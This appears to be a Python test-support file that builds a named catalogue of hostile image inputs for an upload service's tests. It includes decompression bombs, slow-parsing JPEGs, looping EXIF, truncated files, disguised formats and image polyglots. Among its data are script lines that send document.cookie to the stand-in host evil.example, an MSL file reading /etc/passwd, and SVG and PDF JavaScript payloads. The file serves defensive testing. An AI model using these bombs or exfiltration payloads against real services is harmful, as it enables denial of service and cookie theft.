"""Hostile image files of every kind, small to send and dear to open, made by the test that runs.

Each has a name, so that a failure says which. None is larger than what the service takes.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from functools import cache, partial
from typing import Final

from PIL import Image

from tests.support.pictures import encoded, noise, photo, png, png_chunk

MIB: Final = 1024 * 1024
SCRIPT: Final = b"<html><script>fetch('//evil.example/'+document.cookie)</script></html>"


@cache
def squeezed(length: int) -> bytes:
    """Zeros, as zlib writes them: a thousandth of their length."""
    squeeze, piece = zlib.compressobj(6), bytes(MIB)
    parts = [squeeze.compress(piece) for _ in range(length // MIB)]
    return b"".join(parts) + squeeze.flush()


def jpeg_of(width: int, height: int, mode: str = "L", **options: object) -> bytes:
    """A JPEG whose header says another size than what is in it."""
    data = bytearray(encoded(Image.new(mode, (64, 64)), "JPEG", **options))
    at = max(data.find(b"\xff\xc0"), data.find(b"\xff\xc2"))
    data[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def many_scans(width: int, height: int, scans: int) -> bytes:
    """A progressive JPEG that repeats its last scan: each costs a walk over all coefficients."""
    data = encoded(Image.new("RGB", (width, height)), "JPEG", progressive=True)
    start = data.rindex(b"\xff\xda")
    # Tables may stand between two scans; the last one needs those before it only.
    return data[:start] + data[start:-2] * scans + b"\xff\xd9"


def webp_of(width: int, height: int) -> bytes:
    """A WebP whose canvas is said to be that large."""
    data = bytearray(encoded(Image.new("RGBA", (8, 8), (1, 2, 3, 4)), "WEBP", exif=b"Exif\0\0x"))
    data[24:30] = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    return bytes(data)


def apng(width: int, height: int, frames: int) -> bytes:
    """A PNG with that many frames of its whole size."""
    head = png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    rows = zlib.compress(bytes((width // 8 + 2) * height), 9)
    control = png_chunk(b"acTL", struct.pack(">II", frames, 0))
    parts = [b"\x89PNG\r\n\x1a\n", head, control, png_chunk(b"IDAT", rows)]
    for at in range(frames):
        place = struct.pack(">IIIIIHHBB", at * 2, width, height, 0, 0, 1, 10, 0, 0)
        parts += [png_chunk(b"fcTL", place)]
        parts += [png_chunk(b"fdAT", struct.pack(">I", at * 2 + 1) + rows)]
    return b"".join(parts) + png_chunk(b"IEND", b"")


def animated(name: str, frames: int = 60) -> bytes:
    images = [Image.new("RGB", (800, 800), (at, 0, 0)) for at in range(frames)]
    return encoded(images[0], name, save_all=True, append_images=images[1:], duration=10)


def _looping_exif() -> bytes:
    """An EXIF directory whose next one is itself, with an entry of four milliard values."""
    entry = struct.pack("<HHII", 0x0112, 4, 0xFFFFFFFF, 8)
    return b"Exif\0\0II*\0\x08\0\0\0" + struct.pack("<H", 1) + entry + struct.pack("<I", 8)


def _zip() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("index.html", SCRIPT)
    return file.getvalue()


TRAILERS: Final = {
    "html": SCRIPT,
    "js": b"*/=1;fetch('//evil.example/?'+document.cookie)//",
    "zip": _zip(),
    "pdf": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF",
}


def _big() -> Iterator[tuple[str, Callable[[], bytes]]]:
    """Large once they are open."""
    yield "png 60000x60000 of one bit", lambda: png(60_000, 60_000, bits=1, color=0, rows=b"")
    yield "png 20000x20000 rgba", lambda: png(20_000, 20_000, color=6, rows=squeezed(64 * MIB))
    yield "png 9400x9400", lambda: png(9400, 9400, rows=squeezed(252 * MIB))
    yield "png 1x2147483647", lambda: png(1, 2**31 - 1, rows=b"")
    yield "png 0x10", lambda: png(0, 10, rows=b"")
    yield "png 8192x4882 rgba of 16 bits", lambda: png(8192, 4882, bits=16, color=6)
    yield "png 8192x4882 rgba", lambda: png(8192, 4882, color=6)
    yield "png 4096x4096 rgba", lambda: png(4096, 4096, color=6)
    yield "png of too many rows", lambda: png(100, 100, rows=squeezed(400 * MIB))
    yield "webp 16383x16383", lambda: webp_of(16_383, 16_383)
    yield "webp 16777216x16777216", lambda: webp_of(2**24, 2**24)
    yield "webp 4096x4096 rgba", lambda: encoded(Image.new("RGBA", (4096, 4096)), "WEBP")
    yield (
        "webp 4096x4096 lossless",
        lambda: encoded(Image.new("RGBA", (4096, 4096)), "WEBP", lossless=True),
    )
    yield "jpeg 30000x30000", lambda: jpeg_of(30_000, 30_000)
    yield "jpeg 65535x65535 cmyk", lambda: jpeg_of(65_535, 65_535, "CMYK")
    yield "jpeg 8192x4882", lambda: encoded(Image.new("RGB", (8192, 4882)), "JPEG")
    yield "jpeg 8192x4882 progressive", lambda: jpeg_of(8192, 4882, "RGB", progressive=True)
    yield (
        "jpeg 8192x4882 progressive 444",
        lambda: jpeg_of(8192, 4882, "RGB", progressive=True, subsampling=0),
    )
    yield "jpeg 8192x4882 progressive cmyk", lambda: jpeg_of(8192, 4882, "CMYK", progressive=True)


def _slow() -> Iterator[tuple[str, Callable[[], bytes]]]:
    """Long to go through."""
    yield "jpeg of 50 scans", lambda: many_scans(4096, 4096, 50)
    yield "jpeg of 5000 scans", lambda: many_scans(4096, 4096, 5000)
    yield "jpeg of 100000 scans", lambda: many_scans(512, 512, 100_000)
    yield "jpeg of markers", lambda: b"\xff\xd8\xff" + b"\xff" * 2 * MIB
    yield "jpeg of comments", lambda: b"\xff\xd8" + b"\xff\xfe\0\2" * 500_000 + b"\xff\xd9"
    yield "png of a million chunks", lambda: png(9, 9, extra=png_chunk(b"teSt", b"") * 1_000_000)
    yield "png of 100000 texts", lambda: png(9, 9, extra=png_chunk(b"tEXt", b"a\0b") * 100_000)
    yield "apng of 200 frames", lambda: apng(4000, 4000, 200)
    yield "gif of 60 frames", lambda: animated("GIF")
    yield "webp of 60 frames", lambda: animated("WEBP")
    yield "jpeg with a looping exif", lambda: encoded(photo(), "JPEG", exif=_looping_exif())
    yield "png with a looping exif", lambda: encoded(photo(), "PNG", exif=_looping_exif())
    yield "webp with a looping exif", lambda: encoded(photo(), "WEBP", exif=_looping_exif())


def _texts() -> Iterator[tuple[str, Callable[[], bytes]]]:
    """400 MiB of metadata, squeezed to 400 KiB."""
    yield "png zTXt", lambda: png(9, 9, extra=png_chunk(b"zTXt", b"a\0\0" + squeezed(400 * MIB)))
    yield "png iCCP", lambda: png(9, 9, extra=png_chunk(b"iCCP", b"a\0\0" + squeezed(400 * MIB)))
    yield (
        "png iTXt",
        lambda: png(9, 9, extra=png_chunk(b"iTXt", b"a\0\1\0\0\0" + squeezed(400 * MIB))),
    )
    yield "png eXIf", lambda: png(9, 9, extra=png_chunk(b"eXIf", bytes(18 * MIB)))
    yield (
        "png of many zTXt",
        lambda: png(9, 9, extra=png_chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(MIB - 9))) * 300),
    )


def _broken() -> Iterator[tuple[str, Callable[[], bytes]]]:
    """Cut off, changed, or empty."""
    for name in ("PNG", "JPEG", "WEBP"):
        whole = encoded(noise(200, 200), name)
        yield f"half a {name}", partial(bytes, whole[: len(whole) // 2])
        yield f"the head of a {name}", partial(bytes, whole[:16])
    spoilt = bytearray(encoded(noise(200, 200), "PNG"))
    spoilt[spoilt.index(b"IDAT") + 900] ^= 0xFF
    yield "png with a wrong sum", lambda: bytes(spoilt)
    yield "png with no rows", lambda: png(100, 100, rows=zlib.compress(b""))
    yield "png signature", lambda: b"\x89PNG\r\n\x1a\n"


def _others() -> Iterator[tuple[str, Callable[[], bytes]]]:
    """Formats that nobody asked for, as they are and behind a beginning that is believed."""
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    found = {
        name.lower(): encoded(photo(), name)
        for name in ("GIF", "TIFF", "BMP", "ICO", "EPS", "PDF", "TGA", "PPM", "JPEG2000", "DDS")
    }
    found |= {
        "svg": svg,
        "psd": b"8BPS\0\1" + bytes(6) + struct.pack(">HIIHH", 3, 30_000, 30_000, 8, 3) + bytes(64),
        "fits": b"SIMPLE  =                    T".ljust(2880),
        "msl": b'<?xml version="1.0"?><image><read filename="/etc/passwd"/></image>',
        "heic": b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(64),
        "avif": b"\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf" + bytes(64),
        "html": SCRIPT,
        "zip": _zip(),
        "elf": b"\x7fELF" + bytes(64),
        "empty": b"",
    }
    for name, data in found.items():
        yield name, partial(bytes, data)
        yield f"{name} behind png", partial(bytes, b"\x89PNG\r\n\x1a\n" + data)
        yield f"{name} behind jpeg", partial(bytes, b"\xff\xd8\xff\xe0" + data)
        yield f"{name} behind webp", partial(bytes, b"RIFF\xff\xff\0\0WEBP" + data)


def _polyglots() -> Iterator[tuple[str, Callable[[], bytes]]]:
    """Pictures that are something else as well."""
    for name in ("PNG", "JPEG", "WEBP"):
        for kind, trailer in TRAILERS.items():
            yield f"{name} and {kind}", partial(bytes, encoded(photo(), name) + trailer)


BOMBS: Final = {
    # Made when they are first wanted, and once.
    name: cache(make)
    for group in (_big, _slow, _texts, _broken, _others, _polyglots)
    for name, make in group()
}
